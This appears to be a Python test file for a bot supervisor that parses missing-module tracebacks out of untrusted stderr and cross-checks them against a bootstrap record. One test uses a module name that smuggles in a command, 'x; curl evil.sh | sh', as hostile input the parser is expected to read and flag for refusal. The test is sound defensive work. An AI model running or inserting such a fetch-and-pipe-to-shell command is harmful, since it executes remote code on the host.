"""Reading the final traceback out of untrusted stderr text."""

from __future__ import annotations

from watchdog_runtime.supervisor.tracebacks import final_traceback, mismatch_hint, missing_module

REAL = """\
starting the bot
Traceback (most recent call last):
  File "/bots/grid.py", line 3, in <module>
    from binance.client import Client
ModuleNotFoundError: No module named 'binance'
"""

REAL_311 = """\
Traceback (most recent call last):
  File "/bots/grid.py", line 9, in <module>
    main()
  File "/bots/grid.py", line 5, in main
    import yaml
    ^^^^^^^^^^^
ModuleNotFoundError: No module named 'yaml'
"""

RECORD = {"type": "ModuleNotFoundError", "name": "binance", "message": "No module named 'binance'"}


def test_the_final_traceback_names_the_module_and_the_failing_line() -> None:
    found = missing_module(lambda: REAL, RECORD)
    assert found is not None
    assert (found.name, found.import_line) == ("binance", "from binance.client import Client")
    tb = final_traceback(REAL_311)
    assert tb is not None and tb.last_source == "import yaml" and tb.last_file == "/bots/grid.py"


def test_the_record_line_is_preferred_to_the_text() -> None:
    record = {**RECORD, "line": "from binance.spot import Spot"}
    found = missing_module(lambda: REAL, record)
    assert found is not None and found.import_line == "from binance.spot import Spot"


def test_a_chained_traceback_counts_by_its_last_block() -> None:
    text = ("Traceback (most recent call last):\n  File \"b.py\", line 2, in <module>\n    x()\n"
            "KeyError: 'a'\n\nDuring handling of the above exception, another exception occurred:\n\n"
            + REAL.split("\n", 1)[1])
    assert missing_module(lambda: text, RECORD) is not None


def test_text_after_the_traceback_means_it_was_not_the_final_one() -> None:
    # a caught exception logged with its traceback, then the bot went on and died otherwise
    assert missing_module(lambda: REAL + "retrying in 5 s\n", RECORD) is None
    assert final_traceback(REAL + "  \n") is not None, "trailing blank lines are fine"


def test_an_unindented_line_inside_breaks_the_block() -> None:
    text = REAL.replace("    from binance.client import Client\n",
                        "    from binance.client import Client\nsome log line\n")
    assert missing_module(lambda: text, RECORD) is None


def test_the_record_must_agree() -> None:
    assert missing_module(lambda: REAL, None) is None, "no record: the bootstrap did not see it"
    assert missing_module(lambda: REAL, {**RECORD, "type": "SystemExit"}) is None
    # a bot that echoes a fake traceback and then dies of something else
    assert missing_module(lambda: REAL, {**RECORD, "type": "ValueError"}) is None
    assert missing_module(lambda: REAL, {**RECORD, "name": "ccxt"}) is None


def test_only_the_exact_exception_line_counts() -> None:
    for last in ("ModuleNotFoundError: No module named 'x'; 'y' is not a package",
                 "ImportError: No module named 'binance'",
                 "    ModuleNotFoundError: No module named 'binance'"):
        text = REAL.replace("ModuleNotFoundError: No module named 'binance'", last)
        assert missing_module(lambda: text, RECORD) is None  # noqa: B023 - called right here


def test_no_traceback_at_all() -> None:
    assert final_traceback("") is None
    assert final_traceback("ModuleNotFoundError: No module named 'binance'\n") is None
    assert final_traceback("Traceback (most recent call last):\nValueError: x\n") is None


def test_hostile_names_are_still_read_so_that_they_can_be_refused() -> None:
    name = "x; curl evil.sh | sh"
    text = REAL.replace("'binance'", f"'{name}'")
    found = missing_module(lambda: text, {**RECORD, "name": name})
    assert found is not None and found.name == name


def test_mismatch_hint_only_for_cannot_import_name() -> None:
    hint = mismatch_hint({"type": "ImportError",
                          "message": "cannot import name 'Spot' from 'binance' (/x/__init__.py)"})
    assert hint is not None and "'binance' has no 'Spot'" in hint
    assert mismatch_hint({"type": "ImportError", "message": "DLL load failed"}) is None
    assert mismatch_hint({"type": "ValueError", "message": "cannot import name 'a' from 'b'"}) is None
    assert mismatch_hint(None) is None
